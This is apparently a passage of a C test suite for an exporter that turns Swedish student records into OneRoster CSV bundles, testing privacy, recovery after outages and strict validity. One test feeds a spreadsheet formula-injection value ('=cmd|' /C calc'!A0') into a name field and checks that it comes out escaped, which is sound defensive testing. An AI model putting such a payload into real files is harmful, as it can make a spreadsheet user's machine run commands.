    cr_assert_not_null(strstr(text, quoted_student));
    free(text);
    struct recs del = {0};
    recs_add(&del, "persons", quoted_student, NULL);
    apply_all(del.v, del.n);
    char *after = write_now();
    const char *files[] = {"users.csv", "roles.csv", "enrollments.csv"};
    for (size_t i = 0; i < 3; i++) {
        text = read_in(after, files[i]);
        cr_assert_null(strstr(text, quoted_student), "%s still names the deleted person", files[i]);
        free(text);
    }
    free(before);
    free(after);
    recs_free(&del);
}

/* Collects strings at key anywhere in persons/organisations docs of the raw files. */
static void raw_values(const char *collection, const char *path_key, struct sk_strlist *out)
{
    char *path = skt_fmt("%s/%s.jsonl", data_dir, collection);
    size_t len;
    char *text = sk_read_file(path, &len);
    for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n")) {
        cJSON *doc = cJSON_Parse(line);
        const cJSON *x = cJSON_GetObjectItemCaseSensitive(doc, path_key);
        const cJSON *items[64];
        size_t n = 0;
        if (cJSON_IsArray(x)) {
            const cJSON *it;
            cJSON_ArrayForEach(it, x) if (n < 64) items[n++] = it;
        } else if (x) {
            items[n++] = x;
        }
        for (size_t i = 0; i < n; i++) {
            const char *v = cJSON_IsString(items[i]) ? items[i]->valuestring
                            : str(items[i], "value") ? str(items[i], "value")
                                                     : str(items[i], "streetAddress");
            if (v && strlen(v) >= 6) {
                out->v = sk_realloc(out->v, (out->n + 1) * sizeof(char *));
                out->v[out->n++] = sk_strdup(v);
            }
        }
        cJSON_Delete(doc);
    }
    free(text);
    free(path);
}

static void assert_absent_everywhere(const char *dir, const struct sk_strlist *values,
                                     const char *what)
{
    for (size_t i = 0; i < N_FILES; i++) {
        char *text = read_in(dir, headers[i].file);
        for (size_t k = 0; k < values->n; k++)
            cr_assert_null(strstr(text, values->v[k]), "%s: a %s (%s) appears", headers[i].file,
                           what, "value withheld");
        free(text);
    }
}

static void strlist_free(struct sk_strlist *l)
{
    for (size_t i = 0; i < l->n; i++)
        free(l->v[i]);
    free(l->v);
}

Test(oneroster_sink, no_civic_number_address_or_phone)
{
    open_sink(NULL);
    apply_all(dataset.v, dataset.n);
    char *dir = write_now();
    struct sk_strlist civic = {0}, addr = {0}, phone = {0}, orgaddr = {0};
    raw_values("persons", "civicNo", &civic);
    raw_values("persons", "addresses", &addr);
    raw_values("persons", "phoneNumbers", &phone);
    raw_values("organisations", "address", &orgaddr);
    cr_assert_gt(civic.n, 100);
    cr_assert_gt(addr.n, 10);
    cr_assert_gt(phone.n, 10);
    assert_absent_everywhere(dir, &civic, "civic number");
    assert_absent_everywhere(dir, &addr, "street address");
    assert_absent_everywhere(dir, &phone, "phone number");
    assert_absent_everywhere(dir, &orgaddr, "org address");
    /* Nor in the sink's own state. */
    char *cmd = skt_fmt("sqlite3 %s/oneroster-state.db .dump", state_dir);
    char *dump = NULL;
    if (skt_sh(cmd, 30, &dump) == 0) {
        for (size_t k = 0; k < civic.n; k++)
            cr_assert_null(strstr(dump, civic.v[k]), "a civic number is in the state");
        for (size_t k = 0; k < addr.n; k++)
            cr_assert_null(strstr(dump, addr.v[k]), "an address is in the state");
    }
    free(dump);
    free(cmd);
    strlist_free(&civic);
    strlist_free(&addr);
    strlist_free(&phone);
    strlist_free(&orgaddr);
    free(dir);
}

Test(oneroster_sink, protected_person_minimal_and_phones_only_when_asked)
{
    open_sink("include_phone: true\n");
    apply_all(dataset.v, dataset.n);
    char *dir = write_now();
    struct csv users;
    load_csv(dir, "users.csv", &users);
    int phone = col(&users, "phone"), sms = col(&users, "sms"), given = col(&users, "givenName");
    size_t with_phone = 0, protected_seen = 0;
    for (size_t r = 1; r < users.n; r++) {
        cJSON *p = find_doc("persons", users.rows[r][0]);
        cr_assert_not_null(p);
        bool prot = strcmp(str(p, "securityMarking"), "Ingen") != 0;
        if (prot) {
            protected_seen++;
            cr_assert(!users.rows[r][phone][0] && !users.rows[r][sms][0],
                      "a protected person's phone is exported");
            cr_assert_str_eq(users.rows[r][given], "-", "a protected person's name is exported");
        }
        with_phone += users.rows[r][phone][0] || users.rows[r][sms][0];
    }
    cr_assert_gt(protected_seen, 0, "the dataset has protected persons among the users");
    cr_assert_gt(with_phone, 0, "include_phone: true exports phones");
    csv_free(&users);
    free(dir);
}

Test(oneroster_sink, idle_timer_writes_the_bundle)
{
    /* open_sink sets idle: 1h; a later key would be a duplicate, so configure by hand. */
    char *conf = skt_fmt("state_dir: %s\noutput_dir: %s\nidle: 200ms\n", state_dir, out_dir);
    open_with(conf, "cluster-1");
    apply_all(dataset.v, dataset.n);
    char *link = skt_fmt("%s/current/users.csv", out_dir);
    struct stat st;
    for (int i = 0; i < 100 && stat(link, &st) != 0; i++)
        sk_sleep_ms(50);
    cr_assert_eq(stat(link, &st), 0, "no bundle after the topics went idle");
    free(link);
    free(conf);
}

/*
 * The target down: the output directory gone for a while (an unmounted share,
 * say). Applying goes on into the sink's own state; writing a bundle fails
 * and is retried; once the directory is back the bundle is complete.
 */
Test(oneroster_sink, output_directory_gone_then_back)
{
    open_sink(NULL);
    apply_all(dataset.v, dataset.n / 2);
    char *first = write_now();
    char *users_half = read_in(first, "users.csv");
    char *away = skt_fmt("%s.away", out_dir);
    cr_assert_eq(rename(out_dir, away), 0);
    apply_all(dataset.v + dataset.n / 2, dataset.n - dataset.n / 2); /* not held up */
    char path[1024];
    struct sk_error err = {0};
    cr_assert_neq(oneroster_write_bundle_now(sink, path, sizeof(path), &err), 0,
                  "writing into a missing directory cannot succeed");
    cr_assert(err.msg[0], "no error message");
    cr_assert_eq(rename(away, out_dir), 0);
    char *second = write_now();
    char *users_all = read_in(second, "users.csv");
    cr_assert_not_null(users_all);
    cr_assert_gt(strlen(users_all), strlen(users_half), "the second half is missing");
    /* the same as a bundle written without an outage */
    skt_sink_drop(&sink);
    char *fresh_state = skt_fmt("%s/fresh-state", tmp);
    mkdir(fresh_state, 0700);
    char *saved = state_dir;
    state_dir = fresh_state;
    open_sink(NULL);
    apply_all(dataset.v, dataset.n);
    char *third = write_now();
    char *users_ref = read_in(third, "users.csv");
    cr_assert_str_eq(users_all, users_ref, "the bundle after the outage differs");
    state_dir = saved;
    free(users_half);
    free(users_all);
    free(users_ref);
    free(first);
    free(second);
    free(third);
    free(away);
    free(fresh_state);
}

/* ---- what a strict consumer refuses (tests/fixtures/oneroster_validate.py) ----
 * Learning platforms refuse a whole bundle for one bad cell or one reference
 * to a row that is not there. The validator checks a bundle as the strictest
 * of them would (docs/oneroster-mapping.md, "Format"); each test below feeds
 * the sink data a student-record system may hold and checks the bundle. */

static void assert_strictly_valid(const char *bundle)
{
    char *cmd = skt_fmt("python3 %s/tests/fixtures/oneroster_validate.py '%s' 2>&1 | head -40",
                        SK_SOURCE_DIR, bundle);
    char *output = NULL;
    skt_sh(cmd, 60, &output);
    cr_assert(output && !output[0], "a strict OneRoster 1.2 consumer refuses the bundle:\n%s",
              output ? output : "(no output)");
    free(output);
    free(cmd);
}

/* The n-th record of collection (0: the first) that pred accepts (NULL: any). */
static struct sk_record *nth_rec(const char *collection, bool (*pred)(const cJSON *), int n)
{
    for (size_t i = 0; i < dataset.n; i++) {
        if (strcmp(dataset.v[i].entity->collection, collection) != 0 ||
            (pred && !pred(dataset.docs[i])) || n-- > 0)
            continue;
        return &dataset.v[i];
    }
    cr_assert_fail("no %s left in the dataset", collection);
    return NULL;
}

/* A student with no protected identity (and not quoted_student). */
static bool plain_student(const cJSON *d)
{
    return cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(d, "enrolments")) &&
           strcmp(str(d, "securityMarking"), "Ingen") == 0 &&
           strcmp(str(d, "id"), quoted_student) != 0;
}

static bool is_school(const cJSON *d)
{
    return strcmp(str(d, "organisationType"), "Skolenhet") == 0;
}

static bool is_district(const cJSON *d)
{
    return strcmp(str(d, "organisationType"), "Huvudman") == 0;
}

static bool is_klass_group(const cJSON *d)
{
    return strcmp(str(d, "groupType"), "Klass") == 0;
}

/* Member key of the record's document becomes value (a new node it owns). */
static void set_item(struct sk_record *rec, const char *key, cJSON *value)
{
    cJSON *doc = dataset.docs[rec - dataset.v];
    cJSON_DeleteItemFromObjectCaseSensitive(doc, key);
    cJSON_AddItemToObject(doc, key, value);
    print_json(rec);
}

static void set_text(struct sk_record *rec, const char *key, const char *value)
{
    set_item(rec, key, cJSON_CreateString(value));
}

/* {"id": id} */
static cJSON *reference(const char *id)
{
    cJSON *r = cJSON_CreateObject();
    cJSON_AddStringToObject(r, "id", id);
    return r;
}

/* Applies the dataset, writes a bundle (a zip with zip: true in options) and checks it. */
static char *strictly_valid_bundle(const char *options)
{
    open_sink(options);
    apply_all(dataset.v, dataset.n);
    char *bundle = write_now();
    assert_strictly_valid(bundle);
    return bundle;
}

/* The test data generator's municipality, as a directory and as a zip. */
Test(oneroster_sink, the_generated_bundle_passes_a_strict_consumer)
{
    free(strictly_valid_bundle(NULL));
    skt_sink_drop(&sink);
    free(strictly_valid_bundle("zip: true\ninclude_phone: true\n"));
}

/*
 * Cells as a student-record system may hold them: commas, quotes and line
 * breaks, formulas, a name of 100 000 letters, blanks, control characters,
 * bytes that are not UTF-8 (a foreign producer's protobuf is not checked),
 * a comma inside one value of a list column.
 */
Test(oneroster_sink, hostile_cells_pass_a_strict_consumer)
{
    char *longname = sk_malloc(100001);
    memset(longname, 'x', 100000);
    longname[100000] = '\0';
    /* two values larger than a quarter of the bundle's pool block: they do
     * not both fit in one block, so one takes a block of its own */
    char *huge[2];
    for (int k = 0; k < 2; k++) {
        huge[k] = sk_malloc(200001);
        memset(huge[k], k ? 'z' : 'y', 200000);
        huge[k][200000] = '\0';
    }
    const struct {
        const char *given, *family, *middle;
    } names[] = {
        {"=cmd|' /C calc'!A0", "a,\"b\"\r\nc", "@SUM(A1)"},
        {" \r\n ", "\t", "-x"},
        {"Bell\a\x1b[31m", "Del\x7f", "\x0b\x0c"},
        {"Ok\xc3(\xff", "\xed\xa0\x80 surrogate", "\xc0\xaf overlong"},
        {longname, "+1 (555)", "Åsa"},
        {huge[0], "Lång", "A"},
        {huge[1], "Längre", "B"},
    };
    for (int i = 0; i < (int)(sizeof(names) / sizeof(names[0])); i++) {
        struct sk_record *p = nth_rec("persons", plain_student, i);
        set_text(p, "givenName", names[i].given);
        set_text(p, "familyName", names[i].family);
        set_text(p, "middleName", names[i].middle);
    }
    set_text(nth_rec("organisations", is_school, 0), "displayName", "Skola, \"Nya\"\n=1+1");
    set_text(nth_rec("organisations", is_district, 0), "displayName", "\n");
    set_text(nth_rec("activities", NULL, 0), "displayName", "\x01");
    set_text(nth_rec("groups", is_klass_group, 0), "displayName", "  ");
    struct sk_record *syl = nth_rec("syllabuses", NULL, 0);
    set_text(syl, "subjectName", "Svenska, grund");
    set_text(syl, "subjectCode", "GRGRSVE01");
    char *dir = strictly_valid_bundle(NULL);
    char *users = read_in(dir, "users.csv");
    cr_assert_not_null(strstr(users, longname), "the long name is cut");
    for (int k = 0; k < 2; k++)
        cr_assert_not_null(strstr(users, huge[k]), "a name of 200 000 letters is cut");
    cr_assert_not_null(strstr(users, ",Lång,A,") && strstr(users, ",Längre,B,"),
                       "the cells after a large one are not intact");
    cr_assert_not_null(strstr(users, ",Ok\xef\xbf\xbd(\xef\xbf\xbd,"), "a bad byte is not U+FFFD");
    cr_assert_not_null(strstr(users, ",Bell  [31m,Del ,"), "control characters are not spaces");
    cr_assert_not_null(strstr(users, ",'=cmd|' /C calc'!A0,\"a,\"\"b\"\"  c\",'@SUM(A1),"));
    free(users);
    char *courses = read_in(dir, "courses.csv");
    cr_assert_not_null(strstr(courses, ",Svenska; grund,GRGRSVE01\r\n"), "one subject, not two");
    /* The title is the same value (no courseName): a cell stored once for both
     * must not take the list column's semicolon. */
    cr_assert_not_null(strstr(courses, ",\"Svenska, grund\",GRGRSVE01,"), "%s", courses);
    free(courses);
    free(dir);
    free(longname);
    free(huge[0]);
    free(huge[1]);
}

/* The document of rec, to change (print_json(rec) afterwards). */
static cJSON *doc_of(struct sk_record *rec)
{
    return dataset.docs[rec - dataset.v];
}

#define MISSING_ID "00000000-0000-4000-8000-00000000dead"

/*
 * References a student-record system may hold: an activity or a Klass group
 * at an organisation that is not a school (a district, a department of a
 * school) or at none in the state, an org tree with a cycle, an enrolment, a
 * duty, a duty's person that are not there, a group member who is no
 * student, a person responsible for herself, a member listed twice, a
 * teacher listed twice.
 */
Test(oneroster_sink, hostile_references_pass_a_strict_consumer)
{
    struct sk_record *school = nth_rec("organisations", is_school, 0);
    struct sk_record *district = nth_rec("organisations", is_district, 0);
    set_item(nth_rec("activities", NULL, 0), "organisation", reference(district->key));
    set_item(nth_rec("activities", NULL, 1), "organisation", reference(MISSING_ID));
    set_item(nth_rec("groups", is_klass_group, 1), "organisation", reference(district->key));
    set_item(district, "parentOrganisation", reference(school->key));
    /* a department of the school, and an activity there */
    const char *dept_id = "00000000-0000-4000-8000-00000000d001";
    cJSON *dept = cJSON_CreateObject();
    cJSON_AddStringToObject(dept, "id", dept_id);
    cJSON_AddStringToObject(dept, "displayName", "Musikavdelningen");
    cJSON_AddStringToObject(dept, "organisationType", "Övrigt");
    cJSON_AddItemToObject(dept, "parentOrganisation", reference(school->key));
    recs_add(&dataset, "organisations", dept_id, dept);
    struct sk_record *in_dept = nth_rec("activities", NULL, 3);
    set_item(in_dept, "organisation", reference(dept_id));

    struct sk_record *away = nth_rec("persons", plain_student, 0);
    cJSON *e = cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(doc_of(away), "enrolments"), 0);
    cJSON_ReplaceItemInObjectCaseSensitive(e, "enroledAt", reference(MISSING_ID));
    print_json(away);
    set_item(nth_rec("duties", NULL, 0), "dutyAt", reference(MISSING_ID));
    set_item(nth_rec("duties", NULL, 1), "person", reference(MISSING_ID));
    struct sk_record *self = nth_rec("persons", plain_student, 1);
    cJSON *resp = cJSON_CreateObject();
    cJSON_AddItemToObject(resp, "person", reference(self->key));
    cJSON_AddStringToObject(resp, "relationType", "Vårdnadshavare");
    cJSON_AddItemToArray(cJSON_GetObjectItemCaseSensitive(doc_of(self), "responsibles"), resp);
    print_json(self);

    /* a person with no enrolment and no duty, a member of a Klass group;
     * the group's first member listed twice, with other dates */
    const char *nobody = "00000000-0000-4000-8000-00000000b0d1";
    cJSON *p = cJSON_CreateObject();
    cJSON_AddStringToObject(p, "id", nobody);
    cJSON_AddStringToObject(p, "givenName", "Ingen");
    cJSON_AddStringToObject(p, "familyName", "Roll");
    recs_add(&dataset, "persons", nobody, p);
    struct sk_record *klass = nth_rec("groups", is_klass_group, 2);
    cJSON *members = cJSON_GetObjectItemCaseSensitive(doc_of(klass), "groupMemberships");
    cJSON *twice = cJSON_Duplicate(cJSON_GetArrayItem(members, 0), true);
    cJSON_ReplaceItemInObjectCaseSensitive(twice, "startDate", cJSON_CreateString("2026-09-01"));
    cJSON_AddItemToArray(members, twice);
    cJSON *m = cJSON_CreateObject();
    cJSON_AddItemToObject(m, "person", reference(nobody));
    cJSON_AddItemToArray(members, m);
    print_json(klass);
    struct sk_record *act = nth_rec("activities", NULL, 2);
    cJSON *teachers = cJSON_GetObjectItemCaseSensitive(doc_of(act), "teachers");
    cJSON_AddItemToArray(teachers, cJSON_Duplicate(cJSON_GetArrayItem(teachers, 0), true));
    print_json(act);

    char *dir = strictly_valid_bundle(NULL);
    struct csv classes, users;
    load_csv(dir, "classes.csv", &classes);
    load_csv(dir, "users.csv", &users);
    cr_assert(!has_id(&classes, nth_rec("activities", NULL, 0)->key),
              "a class at a district, with no school above it");
    cr_assert(!has_id(&classes, nth_rec("activities", NULL, 1)->key));
    cr_assert(!has_id(&users, nobody));
    int ks = col(&classes, "schoolSourcedId");
    bool found = false;
    for (size_t r = 1; r < classes.n; r++) {
        if (strcmp(classes.rows[r][0], in_dept->key) != 0)
            continue;
        found = true;
        cr_assert_str_eq(classes.rows[r][ks], school->key, "a department's class is at its school");
    }
    cr_assert(found, "the department's activity is no class");
    csv_free(&classes);
    csv_free(&users);
    free(dir);
}

/*
 * Dates a student-record system may hold: a day that does not exist, a year
 * of three digits, an end before the start (of an enrolment, a duty, a
 * membership, an activity), and activities spread over 70 school years.
 */
Test(oneroster_sink, hostile_dates_pass_a_strict_consumer)
{
    struct sk_record *p = nth_rec("persons", plain_student, 0);
    cJSON *e = cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(doc_of(p), "enrolments"), 0);
    cJSON_ReplaceItemInObjectCaseSensitive(e, "startDate", cJSON_CreateString("2026-02-30"));
    print_json(p);
    struct sk_record *d = nth_rec("duties", NULL, 0);
    set_text(d, "startDate", "2026-08-01");
    set_text(d, "endDate", "2025-06-30");
    struct sk_record *klass = nth_rec("groups", is_klass_group, 0);
    cJSON *m =
        cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(doc_of(klass), "groupMemberships"), 0);
    cJSON_ReplaceItemInObjectCaseSensitive(m, "startDate", cJSON_CreateString("2026-09-01"));
    cJSON_ReplaceItemInObjectCaseSensitive(m, "endDate", cJSON_CreateString("2026-08-20"));
    print_json(klass);
    set_text(nth_rec("activities", NULL, 0), "startDate", "2026-13-01");
    set_text(nth_rec("activities", NULL, 1), "startDate", "0999-09-01");
    struct sk_record *back = nth_rec("activities", NULL, 2);
    set_text(back, "startDate", "2026-09-01");
    set_text(back, "endDate", "2026-08-20");
    for (int i = 0; i < 70; i++) {
        char day[16];
        struct sk_record *a = nth_rec("activities", NULL, 10 + i);
        snprintf(day, sizeof(day), "%d-09-01", 1950 + i);
        set_text(a, "startDate", day);
        snprintf(day, sizeof(day), "%d-12-01", 1950 + i);
        set_text(a, "endDate", day);
    }
    free(strictly_valid_bundle(NULL));
}

static bool is_staff(const cJSON *d)
{
    return cJSON_GetObjectItemCaseSensitive(d, "person") != NULL;
}

/*
 * People a bundle must not name: persons with a protected identity under
 * protected_identities: skip (they arrive as deletes, while groups, duties
 * and responsibles still name them), and a student, a teacher and a
 * guardian deleted while their memberships, duties and responsibles remain.
 */
Test(oneroster_sink, withheld_and_deleted_people_leave_no_reference)
{
    recs_free(&dataset);
    privacy.protected_mode = SK_PROTECTED_SKIP;
    load_dataset();
    give_tricky_name();
    size_t withheld = 0;
    for (size_t i = 0; i < dataset.n; i++)
        withheld += strcmp(dataset.v[i].entity->collection, "persons") == 0 && !dataset.docs[i];
    cr_assert_gt(withheld, 0, "the dataset has protected persons");
    const cJSON *student = nth_rec("persons", plain_student, 0)->doc;
    const char *gone[] = {
        str(student, "id"),
        ref(nth_rec("duties", is_staff, 0)->doc, "person"),
        ref(cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(student, "responsibles"), 0),
            "person"),
    };
    struct recs del = {0};
    for (size_t i = 0; i < 3; i++)
        recs_add(&del, "persons", gone[i], NULL);
    char *dir = strictly_valid_bundle(NULL);
    apply_all(del.v, del.n);
    free(dir);
    dir = write_now();
    assert_strictly_valid(dir);
    for (size_t i = 0; i < N_FILES; i++) {
        char *text = read_in(dir, headers[i].file);
        for (size_t k = 0; k < 3; k++)
            cr_assert_null(strstr(text, gone[k]), "%s names deleted person %s", headers[i].file,
                           gone[k]);
        free(text);
    }
    free(dir);
    recs_free(&del);
}

/* Every "id" below the top level of node (the references) in upper case. */
static void upper_references(cJSON *node, bool top)
{
    cJSON *x;
    cJSON_ArrayForEach(x, node)
    {
        if (!top && x->string && strcmp(x->string, "id") == 0 && cJSON_IsString(x))
            for (char *c = x->valuestring; *c; c++)
                *c = (char)toupper((unsigned char)*c);
        upper_references(x, false);
    }
}

/*
 * A UUID is the same in upper case (RFC 4122), and a student-record system
 * may write references so, while the keys are lower case (the driver
 * normalises them): every row and reference is the same.
 */
Test(oneroster_sink, references_in_upper_case_name_the_same_rows)
{
    char *lower = strictly_valid_bundle(NULL);
    skt_sink_drop(&sink);
    free(state_dir);
    state_dir = skt_fmt("%s/state-upper", tmp);
    cr_assert_eq(mkdir(state_dir, 0700), 0);
    for (size_t i = 0; i < dataset.n; i++) {
        upper_references(dataset.docs[i], true);
        print_json(&dataset.v[i]);
    }
    char *upper = strictly_valid_bundle(NULL);
    assert_same_bundle(lower, upper);
    free(lower);
    free(upper);
}

/* An activity's first teacher is its primary one, also when listed twice. */
Test(oneroster_sink, a_teacher_listed_twice_stays_primary)
{
    struct sk_record *act = nth_rec("activities", NULL, 0);
    cJSON *teachers = cJSON_GetObjectItemCaseSensitive(doc_of(act), "teachers");
    cJSON_AddItemToArray(teachers, cJSON_Duplicate(cJSON_GetArrayItem(teachers, 0), true));
    print_json(act);
    char *dir = strictly_valid_bundle(NULL);
    struct csv enr;
    load_csv(dir, "enrollments.csv", &enr);
    int ec = col(&enr, "classSourcedId"), er = col(&enr, "role"), ep = col(&enr, "primary");
    size_t teacher_rows = 0;
    for (size_t r = 1; r < enr.n; r++) {
        if (strcmp(enr.rows[r][ec], act->key) != 0 || strcmp(enr.rows[r][er], "teacher") != 0)
            continue;
        teacher_rows++;
        cr_assert_str_eq(enr.rows[r][ep], "true", "the first teacher lost primary");
    }
    cr_assert_eq(teacher_rows, 1);
    csv_free(&enr);
    free(dir);
}
